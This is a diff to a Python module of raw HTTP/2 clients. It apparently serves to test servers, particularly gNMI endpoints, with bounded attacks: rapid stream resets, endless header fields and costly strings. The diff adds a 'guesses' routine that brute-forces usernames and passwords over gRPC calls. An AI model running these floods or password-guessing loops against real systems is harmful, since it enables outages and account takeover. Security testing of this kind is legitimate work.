@@ -1,4 +1,5 @@
 """Clients that keep to HTTP/2's frames and to nothing else. Each attack is bounded in bytes and seconds, and ends when it is cut off."""
+import itertools
 import select
 import socket
 import ssl
@@ -6,7 +7,7 @@ import struct
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
 END_STREAM, END_HEADERS = 1, 4
 INDEXED_POST, INDEXED_HTTP, INDEXED_HTTPS = b"\x83", b"\x86", b"\x87"
 
@@ -34,9 +35,10 @@ def literal(name, value, isHuffman=False):
     return b"\x10" + text(name) + text(value, isHuffman)  # never indexed
 
 
-def call(path=b"/gnmi.gNMI/Capabilities"):
+def call(path=b"/gnmi.gNMI/Capabilities", **metadata):
+    fields = b"".join(literal(name.encode(), value.encode()) for name, value in metadata.items())
     return INDEXED_POST + INDEXED_HTTP + b"\x04" + text(path) + literal(b":authority", b"x") + \
-        literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
+        literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + fields
 
 
 def connect(address, tls=None, source=None):
@@ -110,6 +112,14 @@ def costlyStrings():
     while True:
         yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
         stream += 2
+
+
+def guesses(names):
+    """Calls with a password that is another each time."""
+    for stream, name in zip(range(1, 1 << 20, 2), itertools.cycle(names)):
+        yield frame(HEADERS, END_HEADERS, stream, call(username=name, password="guess %d" % stream)) + \
+            frame(DATA, END_STREAM, stream, b"\0" * 5)
+        time.sleep(0.005)
 
 
 ATTACKS = {"rapid resets": rapidResets, "endless header fields": endlessHeaders, "costly strings": costlyStrings}
